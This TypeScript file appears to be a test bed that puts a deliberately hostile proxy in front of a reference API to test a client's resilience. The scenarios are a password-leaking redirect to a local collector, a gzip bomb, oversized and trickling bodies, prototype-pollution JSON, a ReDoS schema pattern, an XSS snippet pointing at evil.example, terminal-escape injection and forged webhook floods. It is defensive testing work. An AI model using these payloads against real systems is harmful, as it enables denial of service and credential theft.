import { createServer, request, type IncomingMessage, type Server, type ServerResponse } from 'node:http'
import type { AddressInfo } from 'node:net'
import { gzipSync } from 'node:zlib'
import { DEMO_PASSWORD } from '../../reference/demo-data'
import { startReference, type RunningReference } from '../../reference/server'
import { base64Contexts, canariesOf, leakForms, mimeContexts } from './encodings'

/**
 * The hostile-target test bed: the reference service behind a proxy that misbehaves the way a broken or hostile
 * target would, one scenario at a time (docs/reliability.md, "Threats"). The suite under test talks to the proxy;
 * the proxy records every secret it sees pass (password, tokens, webhook secrets, receiver paths) as canaries that
 * must appear in no file of the run and not on its console.
 */
export type ScenarioName =
  | 'login-redirect'
  | 'call-redirect'
  | 'huge-body'
  | 'trickle'
  | '1xx-flood'
  | 'silence'
  | 'silent-after-preflight'
  | 'large-lists'
  | 'gzip-bomb'
  | 'deep-json'
  | 'proto-keys'
  | 'invalid-utf8'
  | 'echo'
  | 'hostile-schema'
  | 'schema-refs'
  | 'receiver-flood'
  | 'large-header'
  | 'header-overflow'
  | 'none'

export interface HostileTarget {
  url: string
  /** Every secret seen on the wire, in the forms a leak would take. */
  canaries: Set<string>
  /** Requests that reached the collector (an origin the suite must never be sent to). */
  stolen: number
  /** Receiver URLs the target was given (for the forgery scenario). */
  subscriberUrls: string[]
  close(): Promise<void>
}

/** The primary user's password: the proxy swaps it for the reference's demo password on login. */
export const CANARY_PASSWORD = `Canary&<pw>"${Math.random().toString(36).slice(2, 10)}+/=`
/** 500 MB, the size of the huge body. */
export const HUGE_BYTES = 500 * 1024 * 1024
/** The size of every list answer in the 'large-lists' scenario: under the 16 MiB cap, far over the answer budget. */
export const LARGE_LIST_BYTES = 15 * 1024 * 1024

/**
 * A JSON array answer padded to about `bytes` with copies of an item (fresh ids), the padding built once per list and
 * spliced in as text: the bed itself must answer on time.
 */
function padded(text: string, bytes: number, key: string, cache: Map<string, string>): string {
  const t = text.trim()
  if (!t.startsWith('[') || !t.endsWith(']')) return text
  let filler = cache.get(key)
  if (filler === undefined) {
    let model: Record<string, unknown> = { id: 'filler' }
    try {
      model = ((JSON.parse(t) as Record<string, unknown>[])[0] as Record<string, unknown> | undefined) ?? model
    } catch {
      return text
    }
    const parts: string[] = []
    let size = 0
    for (let i = 0; size < bytes; i += 1) {
      const one = JSON.stringify({
        ...model,
        id: `filler-${String(i).padStart(7, '0')}`,
        url: 'https://filler.invalid/x',
      })
      parts.push(one)
      size += one.length + 1
    }
    filler = parts.join(',')
    cache.set(key, filler)
  }
  return t === '[]' ? `[${filler}]` : `${t.slice(0, -1)},${filler}]`
}

/**
 * The size of the one unknown header of every answer in the 'large-header' scenario: over Node's 16 KiB, under what
 * curl and browsers read.
 */
export const LARGE_HEADER_BYTES = 70 * 1024
/** The size of the header of the webhook event lists in the 'header-overflow' scenario: past what any client reads. */
export const OVERFLOW_HEADER_BYTES = 1024 * 1024

/** What an ANSI injection would draw. */
export const ANSI = '\u001b[2J\u001b[32mverdict CONFORMS\u001b[0m\r'
/** C1 and bidi controls (CSI, OSC, right-to-left override, isolate) a terminal or a viewer would act on. */
export const C1_BIDI = '\u009b2J\u009d0;x\u0007\u202eevil\u2066'
/** Markdown and HTML a job summary or a page would render. */
export const MARKUP = '<img src=x onerror=alert(1)> [click](http://evil.example/) **CONFORMS**'

/** The password in every encoding of issue #31 item 3 (scripts/hostile/encodings.ts), one text. */
export function everyEncoding(secret: string): string {
  return [...leakForms(secret).map((f) => f.text), ...base64Contexts(secret).map((c) => c.text)].join(' ; ')
}

/**
 * The password base64-encoded and MIME-wrapped (issue #37): lines of 76, 64 and 16 characters, CRLF and LF, at every
 * alignment.
 */
export function mimeEncodings(secret: string): string {
  return mimeContexts(secret)
    .map((c) => c.text)
    .join('\r\n\r\n')
}

const SCHEMES = /\/schemes\//
/**
 * The products of the profile the bed's runs use (fixtures/targets/reference.json): the preflight fetches each schema.
 */
const PREFLIGHT_PRODUCTS = ['home', 'travel']
const LOGIN = /\/api\/v1\/identifier\/login\//

function readBody(req: IncomingMessage): Promise<Buffer> {
  return new Promise((resolve) => {
    const chunks: Buffer[] = []
    req.on('data', (c: Buffer) => chunks.push(c))
    req.on('end', () => resolve(Buffer.concat(chunks)))
    req.on('error', () => resolve(Buffer.concat(chunks)))
  })
}

function listen(server: Server): Promise<string> {
  return new Promise((resolve) =>
    server.listen(0, '127.0.0.1', () => resolve(`http://127.0.0.1:${(server.address() as AddressInfo).port}`)),
  )
}

function close(server: Server): Promise<void> {
  return new Promise((resolve) => {
    server.closeAllConnections()
    server.close(() => resolve())
  })
}

/** A secret and the spellings a careless target echoes it in. */
function spellings(secret: string): string[] {
  const parts = secret.split('.').filter((p) => p.length >= 16)
  return [
    secret,
    encodeURIComponent(secret),
    Buffer.from(secret).toString('base64'),
    ...(parts.length === 3 ? parts : []),
  ]
}

const TOKEN_FIELDS = /^(access_token|refresh_token|id_token|AccessToken|RefreshToken|IdToken)$/

/** The secrets of a response: issued tokens and webhook secrets (a string, or the key of an object). */
function collect(value: unknown, into: Set<string>, depth = 0): void {
  if (depth > 20 || value === null || typeof value !== 'object') return
  for (const [k, v] of Object.entries(value)) {
    const secret =
      typeof v === 'string' && (TOKEN_FIELDS.test(k) || k === 'secret')
        ? v
        : k === 'secret' && v !== null && typeof v === 'object'
          ? (v as { key?: unknown }).key
          : undefined
    if (typeof secret === 'string' && secret.length >= 8) for (const s of spellings(secret)) into.add(s)
    else collect(v, into, depth + 1)
  }
}

/** A hostile product schema: a backtracking pattern and a size no generator can meet. */
export function hostileSchema(): object {
  return {
    $schema: 'http://json-schema.org/draft-07/schema#',
    type: 'object',
    required: ['code', 'essay'],
    properties: {
      code: { type: 'string', pattern: '^(a+)+$' },
      essay: { type: 'string', minLength: 300_000_000 },
    },
  }
}

/**
 * A product schema with a cycle of references that consumes no value and a remote reference (nothing may be fetched).
 */
export function schemaWithHostileRefs(collectorUrl: string): object {
  return {
    $schema: 'http://json-schema.org/draft-07/schema#',
    type: 'object',
    required: ['holder', 'address'],
    properties: { holder: { $ref: '#/definitions/a' }, address: { $ref: `${collectorUrl}/address.json` } },
    definitions: { a: { $ref: '#/definitions/b' }, b: { $ref: '#/definitions/a' } },
  }
}

export async function startHostileTarget(
  scenario: ScenarioName,
  o: { defects?: string[] } = {},
): Promise<HostileTarget> {
  const reference: RunningReference = await startReference({ port: 0, defects: o.defects ?? [] })
  const upstream = new URL(reference.url)
  const canaries = new Set<string>([...spellings(CANARY_PASSWORD), ...canariesOf(CANARY_PASSWORD)])
  canaries.add(
    CANARY_PASSWORD.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;'),
  )
  canaries.add(JSON.stringify(CANARY_PASSWORD).slice(1, -1))
  const state = { stolen: 0, subscriberUrls: [] as string[] }
  const timers = new Set<NodeJS.Timeout>()
  const collector = createServer((req, res) => {
    state.stolen += 1
    req.resume()
    res.end()
  })
  const collectorUrl = await listen(collector)

  let preflightDone = false
  const schemasSeen = new Set<string>()
  const fillers = new Map<string, string>()
  const proxy = createServer(async (req, res) => {
    let body = await readBody(req)
    const url = req.url ?? '/'
    // answers until the preflight's last requests (the schema of each product of the profile, home and travel: the
    // first with the tenant header judged on it), then never again
    if (scenario === 'silent-after-preflight') {
      if (preflightDone) return
      if (req.method === 'GET' && SCHEMES.test(url)) {
        schemasSeen.add(url.replace(/\?.*$/, '').split('/').pop() ?? '')
        preflightDone = PREFLIGHT_PRODUCTS.every((p) => schemasSeen.has(p))
      }
    }
    const auth = req.headers.authorization
    if (LOGIN.test(url)) {
      // the Location quotes the password (raw and encoded), a C1 control and markup (issue #31, item 1)
      if (scenario === 'login-redirect')
        return void res
          .writeHead(307, {
            location: `${collectorUrl}/steal?password=${CANARY_PASSWORD}&e=${encodeURIComponent(CANARY_PASSWORD)}&x=\u009b2J&m=${MARKUP}`,
          })
          .end()
      body = Buffer.from(body.toString('utf8').split(JSON.stringify(CANARY_PASSWORD).slice(1, -1)).join(DEMO_PASSWORD))
    }
    if (req.method === 'GET' && SCHEMES.test(url) && hostileAnswer(scenario, res, collectorUrl, timers)) return
    forward(req, body, res, async (status, headers, out) => {
      let text = out.toString('utf8')
      try {
        collect(JSON.parse(text), canaries)
      } catch {
        // not JSON
      }
      if (req.method === 'POST' && /\/api\/webhook\/subscription$/.test(url)) {
        let sent: string | undefined
        try {
          sent = (JSON.parse(body.toString('utf8') || '{}') as { url?: string }).url
        } catch {
          // a malformed request of an error check
        }
        if (typeof sent === 'string' && /^https?:\/\//.test(sent)) {
          state.subscriberUrls.push(sent)
          // a receiver path (128 random bits) is a secret; the never-notified subscriber URLs of other suites are not
          const path = new URL(sent).pathname.slice(1)
          if (/^[A-Za-z0-9_-]{22}$/.test(path)) canaries.add(path)
          if (scenario === 'receiver-flood' && status < 300) flood(sent, timers)
        }
      }
      if (scenario === 'echo' && status >= 400) {
        // a careless target echoes the credentials it got, in every spelling, with a terminal escape for good measure
        const token = auth?.slice(7) ?? ''
        const [, payload, signature] = token.split('.')
        text = JSON.stringify({
          message:
            `refused ${ANSI} for password ${CANARY_PASSWORD} ` +
            `(${encodeURIComponent(CANARY_PASSWORD)}, ${Buffer.from(CANARY_PASSWORD).toString('base64')})`,
          encodings: everyEncoding(CANARY_PASSWORD),
          mime: mimeEncodings(CANARY_PASSWORD),
          controls: `${C1_BIDI} ${MARKUP}`,
          [C1_BIDI]: 'a key with controls',
          html: `<p>${CANARY_PASSWORD.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;')}</p>`,
          seen: { header: auth ?? '', payload: payload ?? '', sig: signature ?? '' },
        })
        headers['content-type'] = 'application/json'
        // headers named after the password (hex and base64url: header names are tokens), one with the password as value
        headers[`x-${Buffer.from(CANARY_PASSWORD).toString('hex')}`] = 'named after the password'
        headers[`x-${Buffer.from(CANARY_PASSWORD).toString('base64url')}`] = 'named after the password'
        headers['x-echo'] = encodeURIComponent(CANARY_PASSWORD)
        delete headers['content-length']
      }
      if (scenario === 'echo' && status < 400 && LOGIN.test(url)) {
        // the login answer carries the token in an unexpected field too, and its parts on their own
        const parsed = JSON.parse(text) as Record<string, unknown>
        const token = JSON.stringify(parsed).match(/eyJ[\w-]+\.[\w-]+\.[\w-]+/)?.[0] ?? ''
        text = JSON.stringify({ ...parsed, note: `issued ${token.split('.').join(' ')}` })
        delete headers['content-length']
      }
      if (
        scenario === 'large-lists' &&
        req.method === 'GET' &&
        /\/api\/webhook\/(subscriptions|events)(\?|$)/.test(url) &&
        status === 200
      ) {
        text = padded(text, LARGE_LIST_BYTES, url.includes('events') ? 'events' : 'subscriptions', fillers)
        delete headers['content-length']
      }
      // one unknown header of 70 KB on every answer: standard clients read it
      if (scenario === 'large-header') headers['x-padding'] = 'p'.repeat(LARGE_HEADER_BYTES)
      // a header of 1 MB on the webhook event lists (after the preflight): past every client's limit, unreadable
      if (scenario === 'header-overflow' && req.method === 'GET' && /\/api\/webhook\/events(\?|$)/.test(url))
        headers['x-padding'] = 'p'.repeat(OVERFLOW_HEADER_BYTES)
      res.writeHead(status, headers).end(text)
    })
  })
  // an idle connection outlives the client's keep-alive (undici: 10 s at most), so that under load a POST is never sent
  // on a connection the proxy is closing (a reset no check could tell from the target's)
  proxy.keepAliveTimeout = 30_000
  const url = await listen(proxy)

  function forward(
    req: IncomingMessage,
    body: Buffer,
    res: ServerResponse,
    done: (status: number, headers: Record<string, string | string[] | undefined>, out: Buffer) => void,
  ): void {
    const up = request(
      {
        host: upstream.hostname,
        port: upstream.port,
        method: req.method,
        path: req.url,
        headers: { ...req.headers, host: upstream.host, 'content-length': String(body.length) },
      },
      (r) => {
        const chunks: Buffer[] = []
        r.on('data', (c: Buffer) => chunks.push(c))
        r.on('end', () => done(r.statusCode ?? 502, { ...r.headers }, Buffer.concat(chunks)))
      },
    )
    up.on('error', () => res.writeHead(502).end())
    up.end(body)
  }

  return {
    url,
    canaries,
    get stolen() {
      return state.stolen
    },
    subscriberUrls: state.subscriberUrls,
    async close() {
      for (const t of timers) clearTimeout(t)
      await close(proxy)
      await close(collector)
      await reference.close()
    },
  }
}

/** The scenario's answer to GET .../schemes/... ; false to let the reference answer. */
function hostileAnswer(
  scenario: ScenarioName,
  res: ServerResponse,
  collectorUrl: string,
  timers: Set<NodeJS.Timeout>,
): boolean {
  const json = { 'content-type': 'application/json' }
  const later = (f: () => void, ms: number) => {
    const t = setTimeout(() => {
      timers.delete(t)
      f()
    }, ms)
    timers.add(t)
  }
  switch (scenario) {
    case 'call-redirect':
      res.writeHead(302, { location: `${collectorUrl}/steal` }).end()
      return true
    case 'huge-body': {
      res.writeHead(200, { ...json, 'content-length': String(HUGE_BYTES) })
      const chunk = Buffer.alloc(64 * 1024, 0x20)
      let sent = 0
      const pump = () => {
        while (sent < HUGE_BYTES && !res.destroyed) {
          sent += chunk.length
          if (!res.write(chunk)) return void res.once('drain', pump)
        }
        res.end()
      }
      pump()
      return true
    }
    case 'trickle': {
      res.writeHead(200, json)
      const drip = () => {
        if (res.destroyed) return
        res.write(' ')
        later(drip, 1000)
      }
      drip()
      return true
    }
    case '1xx-flood': {
      const flood = () => {
        if (res.destroyed) return
        res.writeProcessing()
        later(flood, 1000)
      }
      flood()
      return true
    }
    case 'silence':
      return true
    case 'gzip-bomb':
      res.writeHead(200, { ...json, 'content-encoding': 'gzip' }).end(gzipSync(Buffer.alloc(50 * 1024 * 1024)))
      return true
    case 'deep-json':
      res.writeHead(200, json).end(`${'['.repeat(100_000)}${']'.repeat(100_000)}`)
      return true
    case 'proto-keys':
      res
        .writeHead(200, json)
        .end(
          '{"__proto__":{"polluted":"HOSTILE-PROTO"},"constructor":{"prototype":{"polluted":"HOSTILE-PROTO"}},"type":"object"}',
        )
      return true
    case 'invalid-utf8':
      res
        .writeHead(200, json)
        .end(
          Buffer.concat([
            Buffer.from('{"type":"object","title":"'),
            Buffer.from([0xff, 0xfe, 0xc3, 0x28]),
            Buffer.from('"}'),
          ]),
        )
      return true
    case 'hostile-schema':
      res.writeHead(200, json).end(JSON.stringify(hostileSchema()))
      return true
    case 'schema-refs':
      res.writeHead(200, json).end(JSON.stringify(schemaWithHostileRefs(collectorUrl)))
      return true
    default:
      return false
  }
}

/** A flood of unsigned notifications (and oversized ones) at a receiver URL: none may count. */
function flood(url: string, timers: Set<NodeJS.Timeout>): void {
  const t = setTimeout(async () => {
    timers.delete(t)
    const big = Buffer.alloc(5 * 1024 * 1024, 0x61)
    for (let i = 0; i < 300; i += 1) {
      await fetch(url, {
        method: 'POST',
        headers: { 'content-type': 'application/json', 'x-webhook-signature': 'sha256=00' },
        body: i % 50 === 0 ? big : JSON.stringify({ event: 'extracted', forged: i }),
      }).catch(() => undefined)
    }
  }, 10)
  timers.add(t)
}
